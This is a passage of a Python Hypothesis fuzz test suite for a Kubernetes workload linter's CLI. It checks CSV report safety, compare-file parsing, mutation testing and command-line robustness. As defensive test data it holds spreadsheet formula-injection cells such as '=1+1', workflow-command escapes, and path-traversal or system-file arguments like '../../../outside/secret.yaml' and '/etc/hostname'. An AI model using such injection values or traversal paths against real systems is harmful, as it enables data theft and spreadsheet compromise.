    text = SHOWN_ESCAPED.sub(lambda m: "\\r" if m.group() == "\r" else f"\\u{ord(m.group()):04x}", value)
    text = text.replace("##[", "#\\u0023[")
    lines = text.split("\n")
    for i, line in enumerate(lines[1:], 1):
        stripped = line.lstrip()
        if stripped.startswith("::"):
            lines[i] = line[: len(line) - len(stripped)] + "\\x3a" + stripped[1:]
    return "\n".join(lines)


def read_csv(text: str) -> list[list[str]]:
    """The records of a CSV report, every cell checked: no cell a spreadsheet would run (one that
    starts with ``=``, ``+``, ``-``, ``@``, TAB or CR and is not a number), every record as wide as
    the header."""

    limit = csv.field_size_limit(sys.maxsize)
    try:
        records = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    finally:
        csv.field_size_limit(limit)
    assert records, text
    for record in records:
        assert len(record) == len(records[0]), (records[0], record)
        for cell in record:
            assert not (cell.startswith(FORMULA_FIRST) and not ASCII_NUMBER.fullmatch(cell)), ("a formula", cell)
    return records


def read_back(cell: str) -> str:
    """A CSV cell without the ``'`` the writer adds (docs/fleet.md: one leading ``'`` is always the writer's)."""
    return cell[1:] if cell.startswith("'") else cell


def as_cell(value: Any) -> str:
    """What a CSV cell of the JSON document's ``value`` reads back as."""
    if value is None:
        return ""
    if isinstance(value, float):
        return repr(value)
    return shown_in_a_report(value) if isinstance(value, str) else str(value)


REPLICA_VALUES = st.sampled_from([0, 1, 3, 10**6, 10**30, -1, 2.5, "4", "x", None, 1e300])
GPU_VALUES = st.sampled_from([0, 1, 8, 10**12, 10**30, "2", "1e3", "x", -4, 0.5])


@st.composite
def hostile_workloads(draw) -> tuple[list[dict], list[dict]]:
    """(objects, definitions): one to six workloads whose apiVersion, kind, name, namespace, labels,
    phase, conditions and role names are hostile text, and the definition of each kind (its name
    and the phase it maps to Running hostile too)."""
    kinds = draw(
        st.lists(
            st.tuples(
                HOSTILE_CELLS.map(lambda t: t.replace("/", "")),  # group
                HOSTILE_CELLS.map(lambda t: t.replace("/", "") or "v1"),  # version
                HOSTILE_CELLS.filter(bool),  # kind
                HOSTILE_CELLS,  # the phase that means Running
            ),
            min_size=1,
            max_size=3,
            unique_by=lambda k: k[:3],
        )
    )
    definitions = []
    for i, (group, version, kind, running) in enumerate(kinds):
        definition = copy.deepcopy(DEFINITION)
        definition["metadata"]["name"] = draw(st.sampled_from([f"csv-def-{i}", draw(HOSTILE_CELLS) or "x"]))
        root = definition["spec"]["structureDefinition"]["rootComponent"]
        root["kind"] = {"group": group, "version": version, "kind": kind}
        root["statusDefinition"]["statusMappings"]["running"] = [{"byPhase": running}]
        definitions.append(definition)
    objects = []
    for i in range(draw(st.integers(1, 6))):
        group, version, kind, running = draw(st.sampled_from(kinds))
        metadata: dict[str, Any] = {"name": draw(HOSTILE_CELLS), "uid": f"uid-{i}"}
        if draw(st.booleans()):
            metadata["namespace"] = draw(HOSTILE_CELLS)
        metadata["labels"] = draw(st.dictionaries(HOSTILE_CELLS, HOSTILE_CELLS, max_size=2))
        roles = [
            {
                "name": draw(HOSTILE_CELLS),
                "replicas": draw(REPLICA_VALUES),
                "template": {
                    "spec": {
                        "containers": [{"name": "c", "resources": {"limits": {"nvidia.com/gpu": draw(GPU_VALUES)}}}]
                    }
                },
            }
            for _ in range(draw(st.integers(0, 3)))
        ]
        phase = draw(st.sampled_from([running, draw(HOSTILE_CELLS)]))
        conditions = [{"type": draw(HOSTILE_CELLS), "status": draw(st.sampled_from(["True", "False", "=1"]))}]
        objects.append(
            {
                "apiVersion": f"{group}/{version}" if group else version,
                "kind": kind,
                "metadata": metadata,
                "spec": {"roles": roles},
                "status": {"phase": phase, "conditions": conditions},
            }
        )
    return objects, definitions


def _write_fleet(root: pathlib.Path, objects: list[dict], definitions: list[dict], as_yaml: bool) -> None:
    """The dump (a JSON or YAML List) and the definitions, one file each in ``csv-defs``."""
    _clear(root / "csv-defs")
    (root / "csv-defs").mkdir()
    for i, definition in enumerate(definitions):
        (root / "csv-defs" / f"d{i}.yaml").write_text(yaml.safe_dump(definition), encoding="utf-8")
    fleet = {"apiVersion": "v1", "kind": "List", "items": objects}
    text = yaml.safe_dump(fleet, allow_unicode=True) if as_yaml else json.dumps(fleet)
    if as_yaml and yaml.safe_load(text) != fleet:  # (PyYAML writes a NEL raw, and reads it back as a line break)
        text = yaml.safe_dump(fleet)
    (root / "fleet.data").write_text(text, encoding="utf-8")


SUMMARY = ["describe", "fleet.data", "--summary", "--catalog", "csv-defs", "--timeout", "5"]
ROW_FIELDS = ("namespace", "kind", "name", "apiVersion", "definition", "status")


@examples(60)
@given(fleet=hostile_workloads(), rows=st.sampled_from(["workload", "role"]), as_yaml=st.booleans())
def test_summary_csv_of_hostile_workloads_is_safe_and_reads_back(project, fleet, rows, as_yaml):
    """``describe --summary -f csv`` (per workload and per role) over workloads whose every name is
    hostile (formula starters, the writer's own ', quotes, commas, line breaks, bidi marks, workflow
    commands): the csv module reads one record per workload (or per row of the JSON document), each
    as wide as the header; no cell would run in a spreadsheet; every value reads back as the JSON
    document of the same run has it (after the ' the writer adds; control characters shown as every
    report shows them)."""
    objects, definitions = fleet
    with guarded(project):
        _write_fleet(project, objects, definitions, as_yaml)
        argv = [*SUMMARY, "--rows", rows]
        code, out, err = run_cli([*argv, "-f", "json"])
        check_run(code, out, err, argv)
        assert code in (0, 1), (code, err)  # every object is covered: a row each, counted or failed
        document = json.loads(out)
        code_csv, out_csv, err_csv = run_cli([*argv, "-f", "csv"])
        check_run(code_csv, out_csv, err_csv, argv)
    assert code_csv == code, (err, err_csv)
    header, *records = read_csv(out_csv)
    assert len(records) == len(document["rows"]), (len(records), document["rows"])
    if rows == "workload":
        assert len(records) == len(objects)
    for record, row in zip(records, document["rows"], strict=True):
        got = dict(zip(header, (read_back(cell) for cell in record), strict=True))
        expected = {field: as_cell(row[field]) for field in ROW_FIELDS}
        if rows == "role":
            expected.update(role=as_cell(row["role"]), instance=as_cell(row["instance"]))
            expected["gpusPerPod"] = as_cell(row["gpusPerPod"])
        expected.update(replicas=as_cell(row["replicas"]), ready=as_cell(row["ready"]))
        for figure, value in (row["resources"] or dict.fromkeys(("gpus", "activeGpus", "cpuMillis"))).items():
            expected[figure] = as_cell(value)
        expected["error"] = as_cell("; ".join(row["errors"]))
        assert {k: got[k] for k in expected} == expected, (record, row)


# a CSV of the user's figures: hostile headers, numbers and cells
COMPARE_COLUMNS = ["namespace", "apiVersion", "group", "kind", "name", "role", "gpus", "activeGpus", "cpu",
                   "memory", "replicas", "cpuMillis", "memoryBytes", "allocatedGpus", "cost", "", "\ufeffname"]  # fmt: skip
COMPARE_NUMBERS = st.sampled_from(
    [
        "8", "-3", "2.5", "1e3", "1E100", "1e101", "-1e-100", "1e5000", "1e100000000", "9" * 64, "9" * 65,
        "0." + "0" * 60 + "1", "1" + "0" * 63, "nan", "inf", "-0", "0x10", "1_000", "٣", "１", "+.5", "5.",
        "500m", "16Gi", "1e3Ki", "9" * 60 + "Ei", "1e100m", " 7 ", "", "=1+1",
    ]
)  # fmt: skip


COMPARE_KEYS = ["namespace", "apiVersion", "group", "kind", "name", "role"]
COMPARE_FIGURES = ["gpus", "activeGpus", "allocatedGpus", "cpu", "memory", "replicas", "cpuMillis", "memoryBytes"]
NUMBERS = st.sampled_from(["0", "1", "8", "16", "2.5", "1e3", "-3", ""])
FIGURES = st.one_of(NUMBERS, NUMBERS, NUMBERS, COMPARE_NUMBERS)  # (mostly numbers: a file that compares)


@st.composite
def comparable_files(draw, names: list[str]) -> bytes:
    """A ``--compare`` file a script could have written: some key columns, at least one figure
    column, maybe columns of hostile names (ignored), each line as wide as the header, the keys the
    workloads' own (namespaces, kinds, names, API versions, roles) or hostile, the figures mostly
    numbers and quantities."""

    keys = draw(st.lists(st.sampled_from(COMPARE_KEYS), unique=True, max_size=4))
    figures = draw(st.lists(st.sampled_from(COMPARE_FIGURES), unique=True, min_size=1, max_size=3))
    extra = draw(st.lists(HOSTILE_CELLS.filter(lambda c: c not in COMPARE_KEYS + COMPARE_FIGURES), max_size=2))
    header = draw(st.permutations(keys + figures + extra))
    key_cells = st.sampled_from(names) | HOSTILE_CELLS if names else HOSTILE_CELLS
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator=draw(st.sampled_from(["\r\n", "\n"])))
    writer.writerow(header)
    for _ in range(draw(st.integers(0, 6))):
        writer.writerow([draw(FIGURES if column in figures else key_cells) for column in header])
    return (draw(st.sampled_from(["", "\ufeff"])) + buffer.getvalue()).encode("utf-8")


@st.composite
def hostile_compare_files(draw, names: list[str]) -> bytes:
    """A ``--compare`` file: a header of known, unknown, duplicate or empty columns (a BOM, many
    columns), records of hostile keys (the workloads' own names among them) and numbers (huge,
    exponents, quantities, not numbers), odd quoting, NUL, line breaks in cells, very long lines,
    in UTF-8, UTF-16 (as a spreadsheet exports it) or cp1252; a JSON or YAML document (the wrong
    file: a dump, a report) of any shape; or any bytes."""

    kind = draw(st.sampled_from(["comparable"] * 4 + ["records"] * 3 + ["bytes", "wide", "long", "many", "document"]))
    if kind == "comparable":
        return draw(comparable_files(names))
    if kind == "bytes":
        return draw(st.binary(max_size=300))
    if kind == "document":
        value = draw(JSON_VALUES | st.dictionaries(st.sampled_from(COMPARE_COLUMNS), JSON_VALUES, max_size=4))
        if draw(st.booleans()):
            return json.dumps(value).encode()
        return yaml.safe_dump(value, allow_unicode=True).encode("utf-8", "surrogatepass")
    if kind == "wide":
        width = draw(st.sampled_from([999, 1000, 1001, 100_000]))
        header = ["name", "gpus"] + [f"c{i}" for i in range(width - 2)]
        return (",".join(header) + "\r\n" + ",".join(["x", "1"] + [""] * (width - 2)) + "\r\n").encode()
    if kind == "long":
        size = draw(st.sampled_from([131_071, 131_073, 2_000_000]))
        return ("name,gpus\r\n" + draw(st.sampled_from(["x" * size + ",1", "y,1" + " " * size])) + "\r\n").encode()
    header = draw(st.lists(st.sampled_from(COMPARE_COLUMNS) | HOSTILE_CELLS, min_size=1, max_size=6))
    lines = draw(st.integers(0, 2000)) if kind == "many" else draw(st.integers(0, 6))
    keys = st.sampled_from(names) | HOSTILE_CELLS if names else HOSTILE_CELLS
    cells = st.one_of(keys, COMPARE_NUMBERS)
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator=draw(st.sampled_from(["\r\n", "\n", "\r"])))
    writer.writerow(header)
    row = draw(st.lists(cells, min_size=len(header), max_size=len(header)))
    for i in range(lines):
        if kind != "many" or i < 5:
            row = draw(st.lists(cells, min_size=len(header) - 1, max_size=len(header) + 1))
        writer.writerow(row)
    text = draw(st.sampled_from(["", "\ufeff"])) + buffer.getvalue()
    if draw(st.integers(0, 3)) == 0:  # an odd quote, a NUL, a stray line break somewhere
        at = draw(st.integers(0, len(text)))
        text = text[:at] + draw(st.sampled_from(['"', "\x00", "\n", '""', "\r", "\ufeff"])) + text[at:]
    encoding = draw(st.sampled_from(["utf-8", "utf-8", "utf-8", "utf-16", "cp1252"]))
    return text.encode(encoding, "replace")


def _names_of(obj: dict) -> list:
    """What a --compare file keys a workload by: its name, namespace, kind, apiVersion and role names."""
    metadata = obj["metadata"]
    return [metadata.get("name"), metadata.get("namespace"), obj["kind"], obj["apiVersion"]] + [
        role["name"] for role in obj["spec"]["roles"]
    ]


def _timed(argv: list[str]) -> tuple[float, tuple]:

    started = time.perf_counter()
    result = run_cli(argv)
    return time.perf_counter() - started, result


@examples(60)
@given(data=st.data(), rows=st.sampled_from(["workload", "role"]))
def test_compare_with_hostile_files_never_fails_and_its_csv_is_safe(project, data, rows):
    """``describe --summary --compare FILE`` with a hostile FILE (any bytes, huge numbers and
    exponents, many columns, duplicate headers, a BOM, quotes, NUL, line breaks in cells, very long
    lines, other encodings, a JSON or YAML document; or the dump itself, a missing file, a folder, a
    link to ``/dev/zero``): exit 0, 1 or 2 at once (within 50 times the summary without FILE plus
    the csv module's reading of FILE, both measured here), an exit 2 with one ``kartalint: error:``
    line naming the file; the comparison's CSV obeys what the summary's does, and reads back as its
    JSON document."""

    objects, definitions = data.draw(hostile_workloads())
    names = sorted({str(value) for o in objects for value in _names_of(o) if value})
    place = data.draw(st.sampled_from(["file"] * 6 + ["dump", "missing", "folder", "zero"]))
    content = data.draw(hostile_compare_files(names)) if place == "file" else b""
    with guarded(project):
        _write_fleet(project, objects, definitions, as_yaml=False)
        _clear(project / "figures.csv")
        if place == "folder":
            (project / "figures.csv").mkdir()
        elif place == "zero":
            (project / "figures.csv").symlink_to("/dev/zero")
        elif place != "missing":
            (project / "figures.csv").write_bytes(content)
        plain, _ = _timed([*SUMMARY, "--rows", rows, "-f", "json"])
        started = time.perf_counter()
        with contextlib.suppress(csv.Error, UnicodeDecodeError):
            for _ in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
                pass
        budget = 50 * (plain + time.perf_counter() - started)
        named = "fleet.data" if place == "dump" else "figures.csv"
        argv = [*SUMMARY, "--rows", rows, "--compare", named]
        results = {}
        for fmt in ("csv", "json", "table"):
            seconds, (code, out, err) = _timed([*argv, "-f", fmt])
            check_run(code, out, err, argv)
            assert seconds < budget, (fmt, seconds, budget, "a hang")
            results[fmt] = code, out, err
    codes = {code for code, _, _ in results.values()}
    assert len(codes) == 1, results
    code, out_csv, err = results["csv"]
    if code == 2:
        errors = [line for line in err.splitlines() if line.startswith("kartalint: error:")]
        assert len(errors) == 1 and named in errors[0], err
        return
    assert place in ("file", "dump"), (place, code, err)
    document = json.loads(results["json"][1])
    header, *records = read_csv(out_csv)
    keys = document["keys"]
    assert header == ["scope", *keys, "column", "summary", "file", "note"], header
    expected = []
    for difference in document["differences"]:
        for column, value in difference["values"].items():
            note = "; ".join(n for n in (difference["note"], value["note"]) if n)
            key = [as_cell(difference["key"][k]) for k in keys]
            expected.append(["row", *key, column, as_cell(value["summary"]), as_cell(value["file"]), as_cell(note)])
    if keys:
        for column, value in document["totals"].items():
            expected.append(["total", *[""] * len(keys), column, as_cell(value["summary"]), as_cell(value["file"]), ""])
    assert [[read_back(cell) for cell in record] for record in records] == expected


# -- mutants: hostile but valid definitions (issue 45) ---------------------------------------------------

# ways to write the same jq (a field that must stay a plain path is left as it is)
JQ_REWRITES = [
    lambda e: e,
    lambda e: f"({e})",
    lambda e: f"{e} | .",
    lambda e: f". as $root | {e}",
    lambda e: f"def same: .; {e} | same",
    lambda e: f"\n  {e}  # a jq comment\n",
    lambda e: f"\t{e}\t",
    lambda e: "(" * 60 + e + ")" * 60,
    lambda e: f"[{e}] | .[]",
]
DEFAULTS = ["1", "0", "-1", "0.5", "99999999999999999999", "1e300", "1E3", '"1"', "null", "true"]
STATUS_KEYS = ("running", "failed", "completed", "initializing", "degraded", "suspended")
COMPONENT_NAMES = ["wörker", "a.b", "x[0]", "=1+1", "it's", '"q"', "日本語", "n" * 120, "with space", "::x", "-", "1"]
PHASES = HOSTILE_CELLS.filter(lambda t: t.strip() != "" and len(t) < 1000)


@st.composite
def hostile_valid_definitions(draw) -> tuple[dict, list[dict]]:
    """(definition, objects): tests/test_mutation.py's RICH definition (every construct an operator
    changes) with hostile names of its components, its jq rewritten in odd but valid ways (parentheses
    60 deep, comments, line breaks, tabs, ``def``, bindings), odd defaults (huge, exponents, a
    string, null), up to 40 more status mappings by hostile phases, conditions and expressions; and
    one or two Trainer objects whose roles, counts and phase are hostile too."""
    from test_mutation import RICH, RICH_OBJECT

    from kartalint import karta

    definition = yaml.safe_load(RICH)
    spec = definition["spec"]
    root = spec["structureDefinition"]["rootComponent"]
    children = spec["structureDefinition"]["childComponents"]
    names = {"trainer": "trainer", "worker": "worker", "launcher": "launcher"}
    for old in names:
        if draw(st.integers(0, 2)) == 0:
            names[old] = draw(st.sampled_from(COMPONENT_NAMES).filter(lambda n: n not in names.values()))
    root["name"] = names["trainer"]
    for child in children:
        child["name"], child["ownerRef"] = names[child["name"]], names[child["ownerRef"]]
    for member in spec["optimizationInstructions"]["gangScheduling"]["podGroup"]["subGroups"]:
        member["componentName"] = names[member["componentName"]]
    scale = children[0]["scaleDefinition"]
    scale["replicasPath"] = scale["replicasPath"].replace("// 1)", f"// {draw(st.sampled_from(DEFAULTS))})", 1)
    for field in list(karta.jq_fields(definition)):
        if not field.assignable and draw(st.integers(0, 2)) == 0:
            replaced_at = get_at_path(definition, field.path[:-1])
            replaced_at[field.path[-1]] = draw(st.sampled_from(JQ_REWRITES))(field.expression)
    mappings = root["statusDefinition"]["statusMappings"]
    phases = draw(st.lists(PHASES, max_size=40))
    for i, phase in enumerate(phases):
        matcher = draw(
            st.sampled_from(
                [
                    {"byPhase": phase},
                    {"byConditions": [{"type": phase, "status": "True"}]},
                    {"byExpression": {"expression": f".status.phase == {json.dumps(phase)}", "expectedResult": "true"}},
                ]
            )
        )
        mappings.setdefault(STATUS_KEYS[i % len(STATUS_KEYS)], []).append(matcher)
    if draw(st.booleans()):  # the same list twice: an anchor and an alias in the file
        mappings["degraded"] = mappings["failed"]
    objects = []
    for i in range(draw(st.integers(1, 2))):
        obj = copy.deepcopy(RICH_OBJECT)
        obj["metadata"]["name"] = f"t{i}"
        for role in obj["spec"]["roles"]:
            role["name"] = draw(st.sampled_from([role["name"], draw(PHASES)]))
            role["replicas"] = draw(st.sampled_from([role["replicas"], 0, 10**20, 3]))
        obj["status"]["phase"] = draw(st.sampled_from(phases or ["Running"]) | st.just("Running"))
        objects.append(obj)
    return definition, objects


def get_at_path(data: Any, path: tuple) -> Any:
    for part in path:
        data = data[part]
    return data


PRESENTATIONS = ["block", "flow", "narrow", "double", "single", "ascii"]


def written(definition: dict, presentation: str, crlf: bool, bom: bool) -> str:
    """The definition as a YAML file: block or flow style, folded at 20 columns, every scalar
    double- or single-quoted, non-ASCII escaped; CRLF, a BOM, a comment and a document start."""
    options: dict[str, Any] = {"allow_unicode": presentation != "ascii", "sort_keys": False, "width": 10**6}
    if presentation == "flow":
        options["default_flow_style"] = True
    elif presentation == "narrow":
        options["width"] = 20
    elif presentation in ("double", "single"):
        options["default_style"] = '"' if presentation == "double" else "'"
    text = "# a definition\n---\n" + yaml.safe_dump(definition, **options)
    if crlf:
        text = text.replace("\n", "\r\n")
    return ("\ufeff" if bom else "") + text


def _write_mutation_project(root: pathlib.Path, text: str, objects: list[dict]) -> None:
    _clear(root / "mutants")
    (root / "mutants" / "fixtures").mkdir(parents=True)
    (root / "mutants" / "def.yaml").write_bytes(text.encode("utf-8"))
    for i, obj in enumerate(objects):
        (root / "mutants" / f"obj{i}.yaml").write_text(yaml.safe_dump(obj, allow_unicode=True), encoding="utf-8")
    (root / "mutants" / ".kartalint.yaml").write_text("definitions: [def.yaml]\nfixtures: [fixtures]\n")


@examples(8)  # (each example runs new fixture, test and test --mutants twice: about a second)
@given(
    generated=hostile_valid_definitions(),
    presentation=st.sampled_from(PRESENTATIONS),
    crlf=st.booleans(),
    bom=st.booleans(),
    limit=st.sampled_from(["3", "12", "40"]),
)
def test_mutants_of_hostile_but_valid_definitions(project, generated, presentation, crlf, bom, limit):
    """``kartalint test --mutants`` on hostile but valid definitions (see ``hostile_valid_definitions``,
    written in any YAML style, folded, quoted, escaped, with CRLF or a BOM) with fixtures ``new
    fixture`` wrote from hostile objects: the fixtures pass; the run exits 0 or 1, with no
    traceback, in time (50 times the plain run per mutant, measured here); each of the
    ``--mutants-limit`` mutants picked is killed (by a case, with what differed), survived (with
    what tells it apart and a hint), equivalent or untested (with why) or invalid (with upstream's
    or jq's error), each at a place inside the file, which holds the changed text where the field is
    written on one line as it is; the text output counts the same."""

    from kartalint.mutation.score import OUTCOMES

    definition, objects = generated
    text = written(definition, presentation, crlf, bom)
    with guarded(project):
        _write_mutation_project(project, text, objects)
        os.chdir(project / "mutants")
        for i in range(len(objects)):
            argv = ["new", "fixture", f"obj{i}.yaml", "--definition", "def.yaml", "-o", f"fixtures/f{i}.yaml"]
            code, out, err = run_cli(argv)
            check_run(code, out, err, argv)
            assert code == 0, (argv, err)
        started = time.perf_counter()
        code, out, err = run_cli(["test"])
        plain = time.perf_counter() - started
        assert code == 0, ("a fixture new fixture wrote fails", out, err)
        argv = ["test", "--mutants", "--mutants-limit", limit, "-f", "json"]
        started = time.perf_counter()
        code, out, err = run_cli(argv)
        seconds = time.perf_counter() - started
        check_run(code, out, err, argv)
        code_text, out_text, err_text = run_cli(["test", "--mutants", "--mutants-limit", limit])
        check_run(code_text, out_text, err_text, argv)
    assert code in (0, 1) and code_text == code, (code, err, code_text, err_text)
    mutation = json.loads(out)["mutation"]
    (item,) = mutation["definitions"]
    assert not item["note"], item["note"]  # a valid definition whose cases pass is mutated
    results = item["results"]
    assert len(results) == min(int(limit), item["generated"]) and item["generated"] > 0, item["generated"]
    assert seconds < 50 * plain * (len(results) + 1), (seconds, plain, len(results), "a hang")
    lines = text.lstrip("\ufeff").split("\r\n" if crlf else "\n")
    for result in results:
        assert result["outcome"] in OUTCOMES and result["detail"], result
        if result["outcome"] == "killed":
            assert result["killedBy"], result
        if result["outcome"] == "survived":
            assert result["hint"], result
        if result["outcome"] == "invalid":
            assert result["detail"].startswith(("upstream refuses it: ", "jq cannot compile ")), result
        line, column, end_line, end_column = (result[k] for k in ("line", "column", "endLine", "endColumn"))
        assert 1 <= line <= end_line <= len(lines), (result, len(lines))
        assert 1 <= column <= len(lines[line - 1]) + 1 and 1 <= end_column <= len(lines[end_line - 1]) + 1, result
        assert (line, column) <= (end_line, end_column), result
        expression = get_at_path(definition, _document_path(result, definition))
        if presentation in ("block", "flow") and isinstance(expression, str) and line == end_line:
            shown = lines[line - 1][column - 1 : end_column - 1]
            if "'" not in shown and not re.search(r"[^ -~\u00a0-\ud7ff\ue000-\ufffd]|\\", expression):
                assert shown in expression, (result, shown, expression)
    counts = {outcome: sum(r["outcome"] == outcome for r in results) for outcome in OUTCOMES}
    assert {k: item[k] for k in OUTCOMES} == counts, item
    judged = counts["killed"] + counts["survived"]  # (the score's denominator)
    assert f"{counts['killed']} killed, {counts['survived']} survived of {judged}" in out_text, out_text


def _document_path(result: dict, definition: dict) -> tuple:
    """The path in the definition of a mutant's field, from its component and field (JSON)."""
    from kartalint import karta

    prefix: tuple = ("spec",)
    if result["component"] is not None:
        (ref,) = [r for r in karta.components(definition) if r.data.get("name") == result["component"]]
        prefix = tuple(ref.path)
    path = list(prefix)
    for part in re.findall(r"[^.\[\]]+|\[\d+\]", result["field"]):
        path.append(int(part[1:-1]) if part.startswith("[") else part)
    return tuple(path)


@examples(50)
@given(generated=hostile_valid_definitions(), limit=st.integers(1, 30), seed=st.none() | st.integers(0, 2**32))
def test_generating_mutants_of_hostile_but_valid_definitions(generated, limit, seed):
    """The mutation package on the same definitions: ``generate`` never fails; every mutant changes
    the definition (its ``before`` and ``after`` differ, a copy is built and the original is left as
    it was), its characters lie inside the expression it changes, ids are unique; the same inputs give
    the same mutants; ``select`` with a limit (and a seed) builds only the mutants it picks."""
    from kartalint.mutation import mutant as mutant_module
    from kartalint.mutation.mutant import Subject, get_at
    from kartalint.mutation.operators import generate
    from kartalint.mutation.run import select

    definition, objects = generated
    original = copy.deepcopy(definition)
    built = mutant_module.BUILT[0]
    mutants = generate(Subject(definition, objects))
    assert mutant_module.BUILT[0] == built, "generating builds no mutated definition"
    assert [m.id for m in mutants] == [m.id for m in generate(Subject(copy.deepcopy(original), objects))]
    assert len({m.id for m in mutants}) == len(mutants), "ids are unique"
    chosen = select(mutants, limit, seed)
    assert len(chosen) == min(limit, len(mutants))
    for mutant in chosen:
        assert mutant.before != mutant.after, mutant.id
        assert mutant.definition != original, mutant.id
        if mutant.span is not None:
            expression = get_at(original, mutant.path)
            assert isinstance(expression, str) and 0 <= mutant.span[0] < mutant.span[1] <= len(expression), mutant.id
        mutant.forget()
    assert mutant_module.BUILT[0] - built == len(chosen), "only the picked mutants are built"
    assert definition == original, "operators change copies only"


# -- evaluation: hostile definitions, objects and pods ------------------------------------------------


@pytest.fixture(scope="module")
def evaluator():
    with kartalint.Evaluator(timeout=2) as ev:
        yield ev


@examples(200)
@given(
    definition=mutated(DEFINITION, jq=True),
    obj=st.one_of(st.just(OBJECT), mutated(OBJECT)),
    pods=st.one_of(st.none(), st.lists(st.one_of(st.just(POD), mutated(POD)), max_size=3)),
)
def test_api_evaluate_never_raises_for_data(project, evaluator, definition, obj, pods):
    OUTSIDE[0] = str(project.parent / "outside")
    with guarded(project):
        try:
            view = evaluator.evaluate(definition, obj, pods)
        except ArgumentError:
            assert not isinstance(definition, dict)  # the only argument error data can cause
            return
        text = json.dumps(view.to_dict())
        assert SECRET not in text
        assert view.statuses or view.errors  # an invalid definition says so; anything else has a status


@examples(25)
@given(definition=mutated(DEFINITION, jq=True), obj=st.one_of(st.just(OBJECT), mutated(OBJECT)))
def test_describe_and_test_with_hostile_definitions(project, definition, obj):
    OUTSIDE[0] = str(project.parent / "outside")
    with guarded(project):
        (project / "hostile.yaml").write_text(json.dumps(definition))
        (project / "hostile-obj.json").write_text(json.dumps(obj))
        fixture = {
            "apiVersion": "kartalint/v1",
            "kind": "KartaFixture",
            "name": "h",
            "source": "fuzz",
            "definition": "hostile.yaml",
            "objectFile": "hostile-obj.json",
            "expect": {"statuses": ["Running"]},
        }
        (project / "hostile-fixture.yaml").write_text(yaml.safe_dump(fixture))
        for argv in (
            ["describe", "hostile-obj.json", "--definition", "hostile.yaml", "-f", "json", "--timeout", "2"],
            ["describe", "hostile-obj.json", "--definition", "hostile.yaml", "--pods", "pods.yaml", "--timeout", "2"],
            ["test", "hostile-fixture.yaml", "--timeout", "2"],
        ):
            code, out, err = run_cli(argv)
            check_run(code, out, err, argv)


# -- fixtures: file references and --update -----------------------------------------------------------

KEYS = [
    "apiVersion: kartalint/v1",
    "kind: KartaFixture",
    "name: fuzzed",
    "source: fuzz",
    "definition: ../defs/trainer.yaml",
]
QUOTES = st.sampled_from(["{}", "'{}'", '"{}"'])
COMMENTS = st.sampled_from(["", "  # a comment", "  # expect: not a key", "  # ünïcødé"])


@st.composite
def fixture_texts(draw):
    """(prefix, expect block, suffix, line ending) of a fixture file with odd quoting and comments."""
    eol = draw(st.sampled_from(["\n", "\r\n"]))
    keys = draw(st.permutations(KEYS))
    prefix_lines = [draw(st.sampled_from(["", "# header ✓", "---"]))] if draw(st.booleans()) else []
    for key in keys:
        name, value = key.split(": ", 1)
        prefix_lines.append(f"{draw(QUOTES).format(name)}: {value}{draw(COMMENTS)}")
    prefix_lines.append(
        f"objectFile: {draw(st.sampled_from(['../../obj.yaml', '../../../outside/secret.yaml', '/etc/hostname', 'missing.yaml']))}"
    )
    expect_key = draw(QUOTES).format("expect")
    status = draw(st.sampled_from(["Running", "Failed", "Pending"]))
    expect = f"{expect_key}:{eol}  statuses: [{status}]{eol}  gpus: {draw(st.integers(0, 40))}{eol}"
    suffix = draw(st.sampled_from(["", "# trailer ✓", "xfail: maybe"]))
    return eol.join(prefix_lines) + eol, expect, suffix + (eol if suffix and draw(st.booleans()) else ""), eol


@examples(40)
@given(parts=fixture_texts(), mode=st.sampled_from(["--update", "--update=all"]))
def test_update_keeps_every_byte_outside_expect(project, parts, mode):
    prefix, expect, suffix, eol = parts
    with guarded(project):
        folder = project / "fixtures" / "example-com-trainer-v1"
        path = folder / "fuzzed.yaml"
        original = (prefix + expect + suffix).encode("utf-8")
        path.write_bytes(original)
        try:
            argv = ["test", str(path), mode]
            code, out, err = run_cli(argv)
            check_run(code, out, err, argv)
            after = path.read_bytes()
            if after != original:
                assert after.startswith(prefix.encode()), (original, after)
                assert after.endswith(suffix.encode()), (original, after)
                assert (b"\r\n" in after) == (eol == "\r\n") and (
                    after.count(b"\r\n") == after.count(b"\n") if eol == "\r\n" else True
                )
        finally:
            path.unlink()


# -- command lines --------------------------------------------------------------------------------------

ARG_VALUES = st.sampled_from(
    [
        "defs",
        "fixtures",
        "obj.yaml",
        "pods.yaml",
        "-",
        "",
        "missing.yaml",
        "/etc/hostname",
        ".",
        "fixtures/example-com-trainer-v1",
        "nan",
        "inf",
        "0",
        "-1",
        "1e400",
        "json",
        "text",
        "sarif",
        "github",
        "junit",
        "tree",
        "yaml",
        "markdown",
        "main",
        "HEAD~5",
        "no-such-ref",
        "*",
        "[",
        "(",
        "\u0000x",
        "ünï",
        "../outside/secret.yaml",
        "a" * 300,
    ]
)
OPTIONS = st.sampled_from(
    [
        "-f",
        "-o",
        "--timeout",
        "-k",
        "--definitions",
        "--definition",
        "--pods",
        "--catalog",
        "--crd",
        "--base",
        "--head",
        "-c",
        "--disable",
        "--known-failures",
        "--min-coverage",
        "--update",
        "--allow-outside",
        "--strict",
        "--quiet",
        "-v",
        "--require-fixtures",
        "--fail-on-change",
        "--force",
        "--allow-empty",
        "--version",
    ]
)
COMMANDS = st.sampled_from(
    [["lint"], ["describe"], ["test"], ["diff"], ["new"], ["new", "fixture"], ["catalog"], ["rules"], ["schema"], []]
)


@examples(200)
@given(command=COMMANDS, rest=st.lists(st.one_of(OPTIONS, ARG_VALUES), max_size=6))
def test_any_command_line(project, command, rest):
    argv = command + rest
    if "-o" in argv or "--output" in argv:  # never let a generated -o overwrite the project's files
        argv = [a if not (i and argv[i - 1] in ("-o", "--output")) else "out/fuzz-output" for i, a in enumerate(argv)]
    argv = [a for a in argv if "\u0000" not in a] if any(a in ("--base", "--head", "--crd") for a in argv) else argv
    with guarded(project):
        before = subprocess.run(
            ["git", "status", "--porcelain", "--", "defs", "fixtures"], cwd=project, capture_output=True, text=True
        ).stdout
        code, out, err = run_cli([a for a in argv if "\u0000" not in a])
        check_run(code, out, err, argv)
        after = subprocess.run(
            ["git", "status", "--porcelain", "--", "defs", "fixtures"], cwd=project, capture_output=True, text=True
        ).stdout
        if "--update" not in argv:
            assert before == after, (argv, "the working tree changed")
        else:
